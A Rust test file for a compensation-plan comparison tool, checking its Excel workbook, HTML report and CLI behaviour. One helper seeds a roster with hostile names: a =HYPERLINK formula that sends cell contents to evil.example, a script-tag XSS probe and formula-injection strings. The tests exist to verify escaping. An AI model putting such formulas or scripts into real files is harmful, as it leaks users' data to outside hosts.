//! The meeting hand-outs on the bundled samples and on hostile input: the workbook read back
//! with calamine, the HTML report's contents, and `carrot compare --xlsx/--html` run for real.

#![allow(clippy::unwrap_used, reason = "helpers of tests: an unexpected error should fail the test loudly")]

use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use calamine::{Data, Reader as _, Xlsx};
use rust_decimal::Decimal;
use rust_decimal::prelude::ToPrimitive as _;

use carrot::engine::compare::Comparison;
use carrot::engine::{self, Detail, PayoutReport};
use carrot::fsx::Overwrite;
use carrot::money;
use carrot::plan::{self, Plan};
use carrot::report::{self, render_html, workbook_bytes, write_html, write_workbook};
use carrot::roster::{self, ImportOptions, Roster};

const ROOT: &str = env!("CARGO_MANIFEST_DIR");
const PLANS: [&str; 3] =
    ["sample_plans/sales_led.json", "sample_plans/transition.json", "sample_plans/product_led.json"];
const ROSTERS: [&str; 2] = ["assets/sales_roster.csv", "assets/consultants_roster.csv"];

fn root(p: &str) -> PathBuf {
    Path::new(ROOT).join(p)
}

fn load_plan(p: &str) -> Plan {
    plan::load(&root(p)).unwrap()
}

fn load_roster(paths: &[PathBuf]) -> Roster {
    roster::import_files(paths, &ImportOptions::default()).unwrap().roster
}

fn compare(plans: &[Plan], roster: &Roster) -> Comparison {
    let reports: Vec<PayoutReport> =
        plans.iter().map(|p| engine::compute(p, roster, Detail::AmountsOnly).unwrap()).collect();
    Comparison::new(reports)
}

/// sales_led, transition and product_led on both sample rosters.
fn samples() -> Comparison {
    let plans: Vec<Plan> = PLANS.iter().map(|p| load_plan(p)).collect();
    compare(&plans, &load_roster(&ROSTERS.map(root)))
}

/// The sample sales roster with hostile names on its first rows, in a temporary folder.
fn hostile_roster(dir: &Path) -> Roster {
    let text = std::fs::read_to_string(root("assets/sales_roster.csv")).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    let names = [
        "\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"",
        "<script>alert('pwned')</script>",
        "@SUM(1+1)",
        "+49 Müller",
    ];
    for (line, name) in lines.iter_mut().skip(1).zip(names) {
        let mut cells: Vec<&str> = line.splitn(3, ',').collect();
        cells[1] = name;
        *line = cells.join(",");
    }
    let path = dir.join("hostile.csv");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    load_roster(&[path])
}

/// Two plans both named "Product-led" (the sample product_led and sales_led renamed) on the
/// hostile roster.
fn hostile(dir: &Path) -> Comparison {
    let a = load_plan("sample_plans/product_led.json");
    let mut b = load_plan("sample_plans/sales_led.json");
    b.name = a.name.clone();
    compare(&[a, b], &hostile_roster(dir))
}

fn open(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes)).unwrap()
}

fn f(v: Decimal) -> f64 {
    v.to_f64().unwrap()
}

/// The row (absolute index) whose first cell is `label`.
fn row_of(range: &calamine::Range<Data>, label: &str) -> u32 {
    let (r0, _) = range.start().unwrap();
    range
        .rows()
        .position(|r| r.first() == Some(&Data::String(label.to_owned())))
        .map(|i| r0 + u32::try_from(i).unwrap())
        .unwrap_or_else(|| panic!("no row {label:?}"))
}

fn cell(range: &calamine::Range<Data>, row: u32, col: u32) -> Data {
    range.get_value((row, col)).cloned().unwrap_or(Data::Empty)
}

#[test]
fn workbook_has_summary_a_sheet_per_plan_and_winners_and_losers() {
    let cmp = samples();
    let wb = open(workbook_bytes(&cmp).unwrap());
    assert_eq!(
        wb.sheet_names(),
        ["Summary", "1. Sales-led (today)", "2. Transition", "3. Product-led", "Winners and losers"]
    );
    assert_eq!(report::plan_sheet_names(&cmp), ["1. Sales-led (today)", "2. Transition", "3. Product-led"]);
}

#[test]
fn workbook_summary_totals_are_the_engines_as_numbers() {
    let cmp = samples();
    let mut wb = open(workbook_bytes(&cmp).unwrap());
    let summary = wb.worksheet_range("Summary").unwrap();
    let header = 3;
    for i in 0..3u32 {
        assert_eq!(cell(&summary, header, i + 1), Data::String(report::plan_label(&cmp, i as usize)));
    }
    let total = row_of(&summary, "Total payout cost (EUR)");
    let pct = row_of(&summary, "Cost as % of revenue");
    for (i, r) in cmp.reports.iter().enumerate() {
        let c = u32::try_from(i).unwrap() + 1;
        assert_eq!(cell(&summary, total, c), Data::Float(f(r.totals.total)), "total of plan {}", i + 1);
        let expected = f(r.totals.cost_pct_of_revenue().unwrap() / Decimal::ONE_HUNDRED);
        assert_eq!(cell(&summary, pct, c), Data::Float(expected));
        for (role, v) in &r.totals.by_role {
            assert_eq!(cell(&summary, row_of(&summary, role), c), Data::Float(f(*v)), "{role}");
        }
    }
    // Components: a plan without the component leaves the cell empty, not 0.
    let discovery = row_of(&summary, "Discovery bonus");
    assert_eq!(cell(&summary, discovery, 1), Data::Empty);
    assert!(matches!(cell(&summary, discovery, 2), Data::Float(v) if v > 0.0));
    // Amounts carry a currency format with thousands separators and two decimals.
    let styles = wb.worksheet_style("Summary").unwrap();
    let style = styles.get((total, 1)).unwrap();
    let format = style.number_format.as_ref().unwrap().format_code.clone();
    assert!(format.contains("#,##0.00"), "{format}");
    let pct_format = styles.get((pct, 1)).unwrap().number_format.as_ref().unwrap().format_code.clone();
    assert!(pct_format.contains('%'), "{pct_format}");
}

#[test]
fn workbook_plan_sheets_list_everyone_with_ids_as_text_and_the_totals() {
    let cmp = samples();
    let mut wb = open(workbook_bytes(&cmp).unwrap());
    for (i, (rep, name)) in cmp.reports.iter().zip(report::plan_sheet_names(&cmp)).enumerate() {
        let sheet = wb.worksheet_range(&name).unwrap();
        let header = 3;
        let headers: Vec<Data> = (0..8).map(|c| cell(&sheet, header, c)).collect();
        assert_eq!(
            headers[..6],
            ["ID", "Name", "Role", "Team", "Employed", "Attainment"].map(|h| Data::String(h.into()))
        );
        let total_col = (0..40)
            .find(|c| cell(&sheet, header, *c) == Data::String("Total (EUR)".into()))
            .unwrap_or_else(|| panic!("no Total column in {name}"));
        for (k, e) in rep.employees.iter().enumerate() {
            let r = header + 1 + u32::try_from(k).unwrap();
            assert_eq!(cell(&sheet, r, 0), Data::String(e.employee_id.to_string()), "ids stay text in sheet {}", i + 1);
            assert_eq!(cell(&sheet, r, 1), Data::String(e.name.to_string()));
            assert_eq!(cell(&sheet, r, total_col), Data::Float(f(e.total)));
        }
        assert_eq!(cell(&sheet, header + 1, 0), Data::String("001001".into()), "leading zeros survive");
        let total_row = row_of(&sheet, "Total");
        assert_eq!(cell(&sheet, total_row, total_col), Data::Float(f(rep.totals.total)));
        // Every line column's total row is the engine's component total.
        for c in 6..total_col {
            let Data::String(h) = cell(&sheet, header, c) else { panic!("header {c}") };
            let label = h.trim_end_matches(" (EUR)");
            let line = rep.employees.iter().flat_map(|e| &e.lines).find(|l| &*l.label() == label).unwrap();
            let expected = rep.totals.by_component[&*line.component()];
            assert_eq!(cell(&sheet, total_row, c), Data::Float(f(expected)), "{label}");
        }
    }
}

#[test]
fn workbook_winners_and_losers_lists_everyone_sorted_by_change() {
    let cmp = samples();
    let mut wb = open(workbook_bytes(&cmp).unwrap());
    let sheet = wb.worksheet_range("Winners and losers").unwrap();
    for to in 1..3usize {
        let c0 = u32::try_from((to - 1) * 9).unwrap();
        let Data::String(title) = cell(&sheet, 3, c0) else { panic!("block title") };
        assert!(title.starts_with(&format!("{} vs 1. Sales-led (today)", report::plan_label(&cmp, to))), "{title}");
        assert_eq!(cell(&sheet, 4, c0 + 6), Data::String("Change (EUR)".into()));
        let changes: Vec<f64> = (0..cmp.people.len())
            .map(|k| match cell(&sheet, 5 + u32::try_from(k).unwrap(), c0 + 6) {
                Data::Float(v) => v,
                other => panic!("change is a number, got {other:?}"),
            })
            .collect();
        assert!(changes.windows(2).all(|w| w[0] >= w[1]), "sorted, biggest gain first");
        let (gainers, losers) = cmp.movers(0, to, 1);
        assert_eq!(cell(&sheet, 5, c0), Data::String(gainers[0].employee_id.to_string()));
        let last = 5 + u32::try_from(cmp.people.len() - 1).unwrap();
        assert_eq!(cell(&sheet, last, c0), Data::String(losers[0].employee_id.to_string()));
        assert_eq!(changes[0], f(gainers[0].change(0, to).unwrap()));
    }
}

#[test]
fn workbook_writes_formula_looking_names_as_text_and_tells_same_named_plans_apart() {
    let dir = tempfile::tempdir().unwrap();
    let cmp = hostile(dir.path());
    let names = report::plan_sheet_names(&cmp);
    assert_eq!(names, ["1. Product-led", "2. Product-led"]);
    let mut wb = open(workbook_bytes(&cmp).unwrap());
    assert_eq!(wb.sheet_names(), ["Summary", "1. Product-led", "2. Product-led", "Winners and losers"]);
    let summary = wb.worksheet_range("Summary").unwrap();
    let Data::String(note) = cell(&summary, 2, 0) else { panic!("a note tells the plans apart") };
    assert!(note.contains("Plans 1 and 2 are both named"), "{note}");
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    for sheet_name in &names {
        let sheet = wb.worksheet_range(sheet_name).unwrap();
        let r = row_of(&sheet, "001001");
        assert_eq!(cell(&sheet, r, 1), Data::String(evil.to_owned()), "kept exactly, as a string");
        assert_eq!(cell(&sheet, r + 2, 1), Data::String("@SUM(1+1)".to_owned()));
        assert_eq!(cell(&sheet, r + 3, 1), Data::String("+49 Müller".to_owned()));
        let formulas = wb.worksheet_formula(sheet_name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula anywhere in {sheet_name}");
    }
}

#[test]
fn workbook_sheet_names_handle_long_names_and_forbidden_characters() {
    let dir = tempfile::tempdir().unwrap();
    let roster = hostile_roster(dir.path());
    let mut a = load_plan("sample_plans/sales_led.json");
    a.name = "Sales: [Q3/Q4] plan * draft? \\ with a name far longer than Excel allows".to_owned();
    let mut b = load_plan("sample_plans/transition.json");
    b.name = a.name.clone();
    let cmp = compare(&[a, b], &roster);
    let names = report::plan_sheet_names(&cmp);
    assert_eq!(names.len(), 2);
    assert_ne!(names[0].to_lowercase(), names[1].to_lowercase());
    for n in &names {
        assert!(n.chars().count() <= 31, "{n}");
        assert!(!n.contains(['[', ']', ':', '*', '?', '/', '\\']), "{n}");
    }
    let wb = open(workbook_bytes(&cmp).unwrap());
    assert_eq!(wb.sheet_names()[1..3], names[..]);
}

#[test]
fn write_workbook_refuses_to_overwrite_unless_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("handout.xlsx");
    let cmp = samples();
    write_workbook(&cmp, &path, Overwrite::Refuse).unwrap();
    let first = std::fs::read(&path).unwrap();
    std::fs::write(&path, b"keep me").unwrap();
    let again = write_workbook(&cmp, &path, Overwrite::Refuse);
    assert!(matches!(again, Err(report::ReportError::Write(_))), "{again:?}");
    assert_eq!(std::fs::read(&path).unwrap(), b"keep me");
    write_workbook(&cmp, &path, Overwrite::Allow).unwrap();
    // The same workbook again (not byte for byte: it records when it was written, and the
    // compressed size can change with the second).
    let names = |bytes: Vec<u8>| open(bytes).sheet_names();
    assert_eq!(names(std::fs::read(&path).unwrap()), names(first));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    }
}

#[test]
fn html_report_shows_every_plans_total_and_needs_no_network() {
    let cmp = samples();
    let html = render_html(&cmp, "Q3 plan review");
    for r in &cmp.reports {
        let total = money::grouped(r.totals.total, r.minor_units);
        assert!(html.contains(&format!(">{total}<")), "total {total} of {}", r.plan);
        for v in r.totals.by_role.values() {
            assert!(html.contains(&money::grouped(*v, r.minor_units)));
        }
    }
    for label in ["1. Sales-led (today)", "2. Transition", "3. Product-led"] {
        assert!(html.contains(label), "{label}");
    }
    assert!(html.contains("Total payout cost for the period (EUR)"), "money axis says what and in which unit");
    assert!(html.contains(">800,000<"), "money ticks have thousands separators");
    assert!(html.contains("72 people in the roster"));
    assert!(html.contains("2026-07-01 to 2026-09-30"));
    assert!(html.contains("@media print"));
    assert_eq!(html.matches("<svg").count(), 5, "five charts");
    assert!(!html.contains("<script"), "no scripts");
    assert!(!html.contains("http"), "nothing fetched from anywhere");
    for outside in ["src=", "href=", "url(", "@import"] {
        assert!(!html.contains(outside), "{outside}");
    }
    assert_eq!(html, render_html(&samples(), "Q3 plan review"), "the same inputs give the same bytes");
}

#[test]
fn html_report_escapes_hostile_names_and_tells_same_named_plans_apart() {
    let dir = tempfile::tempdir().unwrap();
    let cmp = hostile(dir.path());
    let html = render_html(&cmp, "<b>Review</b>");
    assert!(!html.contains("<script"), "a name must not become a script");
    assert!(html.contains("&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;"));
    assert!(!html.contains("<b>Review"));
    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1"));
    assert!(!html.contains("href="));
    assert!(html.contains("1. Product-led") && html.contains("2. Product-led"));
    assert!(html.contains("both named"));
}

#[test]
fn write_html_refuses_to_overwrite_unless_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("report.html");
    let cmp = samples();
    write_html(&cmp, "Review", &path, Overwrite::Refuse).unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), render_html(&cmp, "Review"));
    assert!(write_html(&cmp, "Other", &path, Overwrite::Refuse).is_err());
    assert_eq!(std::fs::read_to_string(&path).unwrap(), render_html(&cmp, "Review"));
    write_html(&cmp, "Other", &path, Overwrite::Allow).unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), render_html(&cmp, "Other"));
}

// --- the binary -------------------------------------------------------------------------------

fn carrot(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_carrot")).current_dir(ROOT).args(args).output().unwrap()
}

fn compare_args<'a>(extra: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["compare"];
    for p in PLANS {
        args.extend(["--plan", p]);
    }
    for r in ROSTERS {
        args.extend(["--roster", r]);
    }
    args.extend_from_slice(extra);
    args
}

#[test]
fn cli_writes_the_workbook_and_report_and_keeps_its_table() {
    let dir = tempfile::tempdir().unwrap();
    let xlsx = dir.path().join("handout.xlsx");
    let html = dir.path().join("report.html");
    let (x, h) = (xlsx.to_str().unwrap(), html.to_str().unwrap());
    let plain = carrot(&compare_args(&[]));
    assert!(plain.status.success(), "{}", String::from_utf8_lossy(&plain.stderr));
    let out = carrot(&compare_args(&["--xlsx", x, "--html", h]));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(out.stdout, plain.stdout, "the table on stdout is unchanged");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("wrote") && stderr.contains("handout.xlsx") && stderr.contains("report.html"), "{stderr}");

    let cmp = samples();
    let mut wb = open(std::fs::read(&xlsx).unwrap());
    assert_eq!(wb.sheet_names().len(), 5);
    let summary = wb.worksheet_range("Summary").unwrap();
    let total = row_of(&summary, "Total payout cost (EUR)");
    for (i, r) in cmp.reports.iter().enumerate() {
        assert_eq!(cell(&summary, total, u32::try_from(i).unwrap() + 1), Data::Float(f(r.totals.total)));
    }
    let report = std::fs::read_to_string(&html).unwrap();
    assert_eq!(report, render_html(&cmp, "Plan comparison"));

    // JSON output is unchanged by the hand-out flags too.
    let json_plain = carrot(&compare_args(&["--format", "json"]));
    let x2 = dir.path().join("b.xlsx");
    let json = carrot(&compare_args(&["--format", "json", "--xlsx", x2.to_str().unwrap()]));
    assert!(json.status.success());
    assert_eq!(json.stdout, json_plain.stdout);
}

#[test]
fn cli_refuses_to_overwrite_without_force() {
    let dir = tempfile::tempdir().unwrap();
    let xlsx = dir.path().join("handout.xlsx");
    let html = dir.path().join("report.html");
    std::fs::write(&xlsx, b"previous workbook").unwrap();
    std::fs::write(&html, b"previous report").unwrap();
    let (x, h) = (xlsx.to_str().unwrap(), html.to_str().unwrap());

    let out = carrot(&compare_args(&["--xlsx", x]));
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("handout.xlsx") && stderr.contains("already exists"), "{stderr}");
    assert!(out.stdout.is_empty(), "nothing computed or printed");

    let out = carrot(&compare_args(&["--html", h]));
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("report.html"));
    assert_eq!(std::fs::read(&xlsx).unwrap(), b"previous workbook");
    assert_eq!(std::fs::read(&html).unwrap(), b"previous report");

    // A new --xlsx next to an existing --html: neither is written.
    let fresh = dir.path().join("fresh.xlsx");
    let out = carrot(&compare_args(&["--xlsx", fresh.to_str().unwrap(), "--html", h]));
    assert_eq!(out.status.code(), Some(1));
    assert!(!fresh.exists());

    let out = carrot(&compare_args(&["--xlsx", x, "--html", h, "--force", "--title", "Q3 <review>"]));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(std::fs::read(&xlsx).unwrap().starts_with(b"PK"), "an xlsx is a zip");
    let report = std::fs::read_to_string(&html).unwrap();
    assert!(report.starts_with("<!DOCTYPE html>") && report.contains("<title>Q3 &lt;review&gt;</title>"));
}

#[test]
fn cli_rejects_the_same_file_for_both() {
    let dir = tempfile::tempdir().unwrap();
    let same = dir.path().join("out");
    let s = same.to_str().unwrap();
    let out = carrot(&compare_args(&["--xlsx", s, "--html", s]));
    assert_eq!(out.status.code(), Some(2), "wrong usage");
    assert!(!same.exists());
}

/// A 60,000-character name in 62,000 bytes (a roster field holds at most 64 KiB).
fn huge_name() -> String {
    "Ω".repeat(2_000) + &"a".repeat(58_000)
}

#[test]
fn a_60000_character_name_is_cut_with_an_ellipsis_in_the_table_and_the_workbook() {
    let dir = tempfile::tempdir().unwrap();
    // Two people, the first with the huge name; a plan with a huge name too.
    let text = std::fs::read_to_string(root("assets/sales_roster.csv")).unwrap();
    let mut lines: Vec<String> = text.lines().take(3).map(str::to_owned).collect();
    let mut cells: Vec<String> = lines[1].split(',').map(str::to_owned).collect();
    cells[1] = huge_name();
    lines[1] = cells.join(",");
    let roster = dir.path().join("huge.csv");
    std::fs::write(&roster, lines.join("\n") + "\n").unwrap();
    let plan_text = std::fs::read_to_string(root("sample_plans/transition.json")).unwrap();
    let plan_text = plan_text.replacen("\"name\": \"", &format!("\"name\": \"{}", huge_name()), 1);
    let plan = dir.path().join("huge_plan.json");
    std::fs::write(&plan, plan_text).unwrap();
    let xlsx = dir.path().join("huge.xlsx");
    let (roster, plan, xlsx) = (roster.to_str().unwrap(), plan.to_str().unwrap(), xlsx.to_str().unwrap());
    let o = carrot(&["compare", "--plan", PLANS[0], "--plan", plan, "--roster", roster, "--xlsx", xlsx]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let table = String::from_utf8(o.stdout).unwrap();
    let longest = table.lines().map(|l| l.chars().count()).max().unwrap();
    assert!(longest < 400, "no line is padded to the long name: {longest} characters");
    assert!(table.contains(&format!("{}…", "Ω".repeat(59 - 3))), "the plan's name is cut: {table}");
    assert!(table.contains(&format!("{}…", "Ω".repeat(59))), "the person's name is cut: {table}");
    // Excel's limit is 32,767 characters (UTF-16 units) a cell.
    let mut book: Xlsx<_> = calamine::open_workbook(xlsx).unwrap();
    let mut cut = 0;
    for sheet in book.sheet_names() {
        let range = book.worksheet_range(&sheet).unwrap();
        for c in range.used_cells() {
            if let Data::String(s) = c.2
                && s.contains("ΩΩΩ")
            {
                assert!(s.encode_utf16().count() <= 32_767, "{sheet}: {} units", s.encode_utf16().count());
                assert!(s.ends_with('…'), "{sheet}: cut with an ellipsis");
                cut += 1;
            }
        }
    }
    assert!(cut >= 2, "the person's and the plan's names are in the workbook: {cut}");
}

#[test]
fn people_a_plan_could_not_compute_are_left_out_of_the_gainers_and_losers() {
    // Bob has no target incentive, which the sales-led plan's cap needs: that plan cannot pay
    // him, which is not the same as paying him 0 (he would be the biggest loser).
    let dir = tempfile::tempdir().unwrap();
    let roster = dir.path().join("roster.csv");
    std::fs::write(
        &roster,
        "employee_id,name,role,quota,revenue,target_incentive\n1,Ann,sales,100000,40000,10000\n\
         2,Bob,sales,100000,90000,\n3,Cy,sales,100000,200000,12000\n",
    )
    .unwrap();
    let roster = roster.to_str().unwrap();
    let base = ["compare", "--plan", "tests/fixtures/bad/support/plan.json", "--plan", "sample_plans/sales_led.json"];
    // Streamed (one file), and read whole (as with several files or --skip-bad-rows).
    for extra in [&[][..], &["--skip-bad-rows"][..]] {
        let run = |format: &str| {
            let mut args = base.to_vec();
            args.extend(["--roster", roster, "--format", format]);
            args.extend_from_slice(extra);
            let o = carrot(&args);
            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
            (String::from_utf8(o.stdout).unwrap(), String::from_utf8(o.stderr).unwrap())
        };
        let (table, stderr) = run("table");
        assert!(!table.contains("Bob"), "{table}");
        assert!(table.contains("Ann") && table.contains("Cy"), "{table}");
        assert!(table.contains("People in error "), "{table}");
        assert!(
            table.contains(
                "1 person could not be computed under at least one plan, so is not among the gainers and losers."
            ),
            "{table}"
        );
        assert!(
            stderr.contains(
                "problem(s) stopped people from being computed by Sales-led (today) (not in the comparison):"
            ),
            "{stderr}"
        );
        assert!(stderr.contains("  2 Bob [cap]: "), "{stderr}");
        let (json, _) = run("json");
        let json: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(json["not_compared"], 1);
        let ids: Vec<&str> =
            json["people"].as_array().unwrap().iter().map(|p| p["employee_id"].as_str().unwrap()).collect();
        // Everyone is listed; Bob's change is unknown, not −7,200.00.
        assert_eq!(ids, ["1", "2", "3"]);
        assert_eq!(json["people"][1]["change"], serde_json::json!([null]), "{json}");
        // Ann falls below the sales-led threshold, Cy reaches its third tier; Bob is neither.
        let change = &json["changes"][0];
        assert_eq!((&change["people_losing"], &change["people_gaining"]), (&1.into(), &1.into()), "{json}");
        assert_eq!(change["losers"][0]["employee_id"], "1");
        assert_eq!(change["gainers"][0]["employee_id"], "3");
    }
    // The hand-outs say so too.
    let html = dir.path().join("report.html");
    let mut args = base.to_vec();
    args.extend(["--roster", roster, "--html", html.to_str().unwrap()]);
    assert!(carrot(&args).status.success());
    let html = std::fs::read_to_string(html).unwrap();
    assert!(html.contains("1 person could not be computed under at least one plan"), "{html}");
}
